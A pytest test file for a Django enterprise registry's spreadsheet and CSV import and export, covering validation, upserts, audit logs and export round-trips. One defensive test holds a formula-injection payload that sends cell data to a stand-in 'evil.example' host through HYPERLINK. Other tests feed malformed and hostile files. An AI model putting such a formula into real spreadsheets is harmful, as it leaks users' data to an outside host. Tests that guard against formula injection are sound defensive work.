"""Registry import: all or nothing, every bad row reported, upsert by credit code."""

from __future__ import annotations

import datetime as dt
import io
from decimal import Decimal

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from openpyxl import Workbook, load_workbook

from kechuang.accounts.models import AuditLog
from kechuang.registry.demo import demo_build
from kechuang.registry.exports import registry_export
from kechuang.registry.imports import error_report_workbook
from kechuang.registry.models import Certification, Enterprise, FiscalYear, IPAsset
from kechuang.registry.services import registry_import
from kechuang.testing import credit_code

CODE_A = credit_code("91310107MA1H00001")
CODE_B = credit_code("91310107MA1H00002")
ENTERPRISE_HEADERS = [
    "统一社会信用代码",
    "企业名称",
    "注册成立日期",
    "街道/镇",
    "国民经济行业分类代码",
]
FY_HEADERS = ["统一社会信用代码", "年度", "销售收入", "研发费用总额", "职工总数", "科技人员数"]


def workbook(sheets: dict[str, list[list]]) -> io.BytesIO:
    wb = Workbook()
    wb.remove(wb.active)
    for title, rows in sheets.items():
        ws = wb.create_sheet(title)
        for row in rows:
            ws.append(row)
    out = io.BytesIO()
    wb.save(out)
    out.seek(0)
    return out


def good_file() -> io.BytesIO:
    return workbook(
        {
            "企业": [
                ENTERPRISE_HEADERS,
                [CODE_A, "上海甲软件有限公司", dt.date(2019, 5, 6), "长寿路街道", "6513"],
                [CODE_B, "上海乙芯片技术有限公司", "2020-07-15", "桃浦镇", 6520],
            ],
            "年度财务": [
                FY_HEADERS,
                [CODE_A, 2023, 1000000.5, 80000, 20, 8],
                [CODE_A, 2024, "1,200,000", 90000, 22, 9],
                [CODE_B, 2024, 5000000, None, 40, 30],
            ],
            "知识产权": [
                ["统一社会信用代码", "登记号/专利号", "类型", "状态", "授权日", "自主研发"],
                [CODE_A, "2021SR0000001", "软件著作权", "有效", "2021-03-01", "是"],
                [CODE_B, "ZL202110000001", "发明专利", "valid", "2022-01-05", "否"],
            ],
            "资质": [
                ["统一社会信用代码", "资质类型", "证书编号", "发证日期", "有效期至"],
                [CODE_A, "科技型中小企业", "202431010700001", "2024-04-10", "2024-12-31"],
            ],
        }
    )


def do_import(file, name="registry.xlsx", actor=None):
    return registry_import(file=file, filename=name, actor=actor)


def test_a_good_workbook_creates_enterprises_fiscal_years_ip_and_certificates(db, staff_zhang):
    result = do_import(good_file(), actor=staff_zhang)
    assert result.ok, result.errors
    assert result.counts["enterprises"]["created"] == 2
    assert result.counts["fiscal_years"]["created"] == 3
    a = Enterprise.objects.get(credit_code=CODE_A)
    assert a.registration_date == dt.date(2019, 5, 6) and a.industry == "software"
    fy = FiscalYear.objects.get(enterprise=a, year=2023)
    assert fy.sales_revenue == Decimal("1000000.50")
    assert FiscalYear.objects.get(enterprise=a, year=2024).sales_revenue == Decimal("1200000")
    assert IPAsset.objects.get(number="ZL202110000001").ip_class == "I"
    assert Certification.objects.get(enterprise=a).kind == "tsme"
    entry = AuditLog.objects.filter(obj_id=CODE_A, action="enterprise_create").get()
    assert entry.actor == staff_zhang and entry.after["name"] == "上海甲软件有限公司"


def test_a_blank_cell_means_unknown_not_zero(db):
    do_import(good_file())
    fy = FiscalYear.objects.get(enterprise__credit_code=CODE_B, year=2024)
    assert fy.rd_expense is None


def test_reimporting_the_same_file_changes_nothing_and_logs_nothing(db, staff_zhang):
    do_import(good_file(), actor=staff_zhang)
    logged = AuditLog.objects.count()
    result = do_import(good_file(), actor=staff_zhang)
    assert result.ok
    assert all(c["created"] == 0 and c["updated"] == 0 for c in result.counts.values())
    assert AuditLog.objects.count() == logged
    assert Enterprise.objects.count() == 2 and FiscalYear.objects.count() == 3


def test_a_changed_figure_is_updated_and_audited_with_before_and_after(db, staff_zhang):
    do_import(good_file())
    changed = workbook({"年度财务": [FY_HEADERS, [CODE_A, 2024, 1300000, 90000, 22, 9]]})
    result = do_import(changed, actor=staff_zhang)
    assert result.counts["fiscal_years"] == {"created": 0, "updated": 1, "unchanged": 0}
    entry = AuditLog.objects.get(action="fiscal_year_update")
    assert entry.obj_id == f"{CODE_A}/2024" and entry.actor == staff_zhang
    assert entry.before == {"sales_revenue": "1200000.00"}
    assert entry.after == {"sales_revenue": "1300000.00"}


def test_columns_absent_from_the_file_are_left_as_they_are(db):
    do_import(good_file())
    only_names = workbook(
        {"enterprises": [["credit_code", "name"], [CODE_A, "上海甲软件股份有限公司"]]}
    )
    assert do_import(only_names).ok
    a = Enterprise.objects.get(credit_code=CODE_A)
    assert a.name == "上海甲软件股份有限公司" and a.street == "长寿路街道"


def test_english_headers_import_like_chinese_ones(db):
    file = workbook(
        {
            "enterprises": [
                ["credit_code", "name", "registration_date", "industry_code", "ip_surveyed"],
                [CODE_A, "Alpha Software", "2019/05/06", "6513", "yes"],
            ]
        }
    )
    assert do_import(file).ok
    assert Enterprise.objects.get(credit_code=CODE_A).ip_surveyed is True


def test_a_contact_that_cannot_be_reached_is_named_with_its_row_and_nothing_is_imported(db):
    file = workbook({"enterprises": [
        ["credit_code", "name", "contact_phone", "contact_email"],
        [CODE_A, "甲", "+86 21 5555-0101 转 12", "rd@a.example.cn"],
        [CODE_B, "乙", "电话待补", "not-an-email"],
    ]})
    result = do_import(file)
    assert not result.ok
    assert {(e.row, e.column) for e in result.errors} == {(3, "联系电话"), (3, "联系邮箱")}
    assert not Enterprise.objects.exists()


def test_a_file_with_bad_rows_is_rejected_whole_with_every_problem_reported(db):
    file = workbook(
        {
            "企业": [
                [*ENTERPRISE_HEADERS, "颜色"],
                [CODE_A, "好企业", "2019-05-06", "长寿路街道", "6513", ""],
                ["91310107MA1H000019", "校验位错", "2019-05-06", "", "6513", ""],
                [CODE_B, "行业错", "2019-05-06", "", "9999", ""],
                [CODE_A, "重复", "2019-05-06", "", "6513", ""],
                [credit_code("91310107MA1H00003"), "日期错", "2019-13-45", "", "6513", ""],
            ],
            "年度财务": [
                FY_HEADERS,
                [CODE_A, 2024, -5, 0, 10, 2],
                [CODE_A, 2023, 100, 0, 10, 12],
                [CODE_A, 2022, "1e999999999", 0, "1e999999999", 2],
            ],
        }
    )
    result = do_import(file)
    assert not result.ok
    found = {(e.sheet, e.row, e.column) for e in result.errors}
    assert ("企业", 1, "颜色") in found  # unknown column
    assert ("企业", 3, "统一社会信用代码") in found  # bad check digit
    assert ("企业", 4, "国民经济行业分类代码") in found  # unknown industry
    assert ("企业", 6, "注册成立日期") in found  # bad date
    assert ("年度财务", 2, "销售收入") in found  # negative amount
    assert ("年度财务", 3, "科技人员数") in found  # S&T staff above total
    assert ("年度财务", 4, "销售收入") in found  # beyond any amount (not a crash)
    assert ("年度财务", 4, "职工总数") in found  # beyond any head count (not a crash)
    duplicate = [e for e in result.errors if e.row == 5]
    assert duplicate and "duplicate of row 2" in duplicate[0].reason
    assert all("/" in e.reason for e in result.errors)  # Chinese / English
    assert Enterprise.objects.count() == 0 and FiscalYear.objects.count() == 0
    assert AuditLog.objects.count() == 0


def test_a_row_for_an_enterprise_nobody_registered_is_rejected(db):
    file = workbook({"年度财务": [FY_HEADERS, [CODE_A, 2024, 100, 1, 10, 2]]})
    result = do_import(file)
    assert not result.ok
    assert result.errors[0].row == 2 and "neither registered" in result.errors[0].reason


def test_an_ip_number_registered_to_another_enterprise_is_rejected(db):
    do_import(good_file())
    file = workbook(
        {
            "知识产权": [
                ["统一社会信用代码", "登记号/专利号", "类型", "状态"],
                [CODE_A, "ZL202110000001", "发明专利", "有效"],
            ]
        }
    )
    result = do_import(file)
    assert not result.ok and "another enterprise" in result.errors[0].reason
    assert IPAsset.objects.get(number="ZL202110000001").enterprise.credit_code == CODE_B


def test_a_csv_file_is_recognised_by_its_headers(db):
    do_import(good_file())
    csv = f"统一社会信用代码,年度,销售收入\n{CODE_B},2023,4000000\n"
    result = do_import(io.BytesIO(csv.encode("utf-8-sig")), name="fy.csv")
    assert result.ok, result.errors
    assert (
        FiscalYear.objects.get(enterprise__credit_code=CODE_B, year=2023).sales_revenue == 4000000
    )


def test_a_csv_whose_headers_name_no_sheet_says_which_columns_would(db):
    result = do_import(io.BytesIO("名称,颜色\n甲,红\n".encode()), name="other.csv")
    assert not result.ok and not Enterprise.objects.exists()
    reason = result.errors[0].reason
    # What to put in the file, for someone on the web page (who has no --sheet to give).
    assert "统一社会信用代码" in reason and "年度" in reason and "credit_code" in reason


def test_a_csv_file_that_is_not_utf8_is_a_reported_problem_not_a_crash(db):
    csv = f"统一社会信用代码,年度,销售收入\n{CODE_B},2023,4000000\n"
    result = do_import(io.BytesIO(csv.encode("gbk")), name="fy.csv")
    assert not result.ok
    assert "UTF-8" in result.errors[0].reason
    assert FiscalYear.objects.count() == 0


@pytest.mark.parametrize(
    "cell, words",
    [("1e20", "too large"), ("3000000000", "too large"), ("12.5", "whole number")],
)
def test_a_count_no_column_can_hold_is_a_row_error_and_nothing_is_written(db, cell, words):
    csv = f"统一社会信用代码,年度,科技成果转化数\n{CODE_A},2024,{cell}\n"
    result = do_import(io.BytesIO(csv.encode()), name="fy.csv")
    assert not result.ok and any(words in e.reason for e in result.errors), result.errors
    assert FiscalYear.objects.count() == 0


def test_a_blank_used_before_cell_keeps_what_was_recorded(db):
    assert do_import(good_file()).ok
    IPAsset.objects.filter(number="2021SR0000001").update(used_in_earlier_hte_application=True)
    header = ["统一社会信用代码", "登记号/专利号", "类型", "状态", "授权日", "已用于以往高企认定"]
    again = workbook(
        {"知识产权": [header, [CODE_A, "2021SR0000001", "软件著作权", "有效", "2021-03-01", None],
                      [CODE_A, "2021SR0000002", "软件著作权", "有效", "2021-03-01", None]]}
    )
    result = do_import(again)
    assert result.ok, result.errors
    assert IPAsset.objects.get(number="2021SR0000001").used_in_earlier_hte_application is True
    assert IPAsset.objects.get(number="2021SR0000002").used_in_earlier_hte_application is False


def test_a_certificate_whose_merged_dates_run_backwards_is_a_row_error(db):
    assert do_import(good_file()).ok
    cert = Certification.objects.get()
    csv = f"统一社会信用代码,资质类型,证书编号,发证日期\n{CODE_A},科技型中小企业,{cert.number},2025-06-01\n"
    result = do_import(io.BytesIO(csv.encode()), name="c.csv")
    assert not result.ok and result.errors[0].column == "有效期至"
    assert Certification.objects.get().valid_from == cert.valid_from


@pytest.mark.parametrize(
    "name, data",
    [
        ("big.csv", ("统一社会信用代码,企业名称\n" + CODE_A + ',"' + "x" * 200_000 + '"\n').encode()),
        ("broken.xlsx", b"PK\x03\x04" + b"\x00" * 200),
        ("nul.csv", f"统一社会信用代码,企业名称,注册日期,街道,行业代码\n{CODE_A},甲\x00乙,2020-01-01,长寿路街道,6513\n".encode()),
    ],
)
def test_a_damaged_or_hostile_file_is_reported_not_a_server_error(db, name, data):
    result = do_import(io.BytesIO(data), name=name)
    assert not result.ok and result.errors
    assert not Enterprise.objects.exists()


def test_a_long_ip_number_is_audited_in_full(db):
    assert do_import(good_file()).ok
    number = "N" * 64
    csv = f"统一社会信用代码,登记号/专利号,类型,状态\n{CODE_A},{number},软件著作权,有效\n"
    assert do_import(io.BytesIO(csv.encode()), name="ip.csv").ok
    assert AuditLog.objects.filter(obj_id=f"{CODE_A}/{number}").exists()


def test_the_error_report_workbook_lists_every_problem(db):
    file = workbook(
        {"企业": [ENTERPRISE_HEADERS, ["bad", "x", "", "", ""], ["-abc", "y", "", "", ""]]}
    )
    result = do_import(file)
    ws = load_workbook(io.BytesIO(error_report_workbook(result.errors))).active
    rows = list(ws.iter_rows(values_only=True))
    assert rows[0][1] == "行 row" and len(rows) == 1 + len(result.errors) == 3
    assert rows[2][3] == "-abc"  # the value as given, written as text: never a formula
    assert ws.cell(row=3, column=4).data_type == "s"


def test_the_import_command_exits_non_zero_and_prints_the_report(db, tmp_path, capsys):
    path = tmp_path / "bad.xlsx"
    path.write_bytes(workbook({"企业": [ENTERPRISE_HEADERS, ["bad", "x", "", "", ""]]}).getvalue())
    with pytest.raises(CommandError):
        call_command("import", str(path))
    assert "统一社会信用代码" in capsys.readouterr().err
    assert Enterprise.objects.count() == 0


def test_the_import_command_reports_what_it_wrote(db, tmp_path, capsys):
    path = tmp_path / "good.xlsx"
    path.write_bytes(good_file().getvalue())
    call_command("import", str(path))
    assert "enterprises: 2 created" in capsys.readouterr().out


def test_an_export_imports_back_without_a_single_change(db, tmp_path):
    demo_build(count=60)
    path = tmp_path / "registry.xlsx"
    counts = registry_export(out=path, filters={})
    assert counts["enterprises"] == 60
    logged = AuditLog.objects.count()
    result = registry_import(file=path, filename=path.name, actor=None)
    assert result.ok, result.errors[:3]
    assert all(c["created"] == c["updated"] == 0 for c in result.counts.values())
    assert AuditLog.objects.count() == logged


def test_text_that_looks_like_a_formula_is_exported_as_text_and_imports_back(db, tmp_path):
    demo_build(count=3)
    trap = '=HYPERLINK("http://evil.example/?"&A2,"详情")'
    Enterprise.objects.filter(pk=Enterprise.objects.first().pk).update(contact_name=trap)
    path = tmp_path / "registry.xlsx"
    registry_export(out=path, filters={})
    sheet = load_workbook(path)["企业"]
    cells = [c for row in sheet.iter_rows() for c in row if c.value == trap]
    assert cells and all(c.data_type == "s" for c in cells)
    result = registry_import(file=path, filename=path.name, actor=None)
    assert result.ok and all(c["updated"] == 0 for c in result.counts.values())
    assert Enterprise.objects.filter(contact_name=trap).count() == 1


def test_an_export_can_be_limited_to_one_street(db, tmp_path):
    demo_build(count=60)
    street = Enterprise.objects.first().street
    path = tmp_path / "street.xlsx"
    counts = registry_export(out=path, filters={"street": street})
    assert counts["enterprises"] == Enterprise.objects.filter(street=street).count() < 60


def test_the_export_command_writes_the_filtered_registry(db, tmp_path, capsys):
    demo_build(count=40)
    path = tmp_path / "software.xlsx"
    call_command("export", str(path), industry="65")
    out = capsys.readouterr().out
    sheets = load_workbook(path, read_only=True).sheetnames
    assert sheets == ["企业", "年度财务", "知识产权", "资质"]
    software = Enterprise.objects.filter(industry_code__startswith="65").count()
    assert f"{software} enterprises" in out and 0 < software < 40
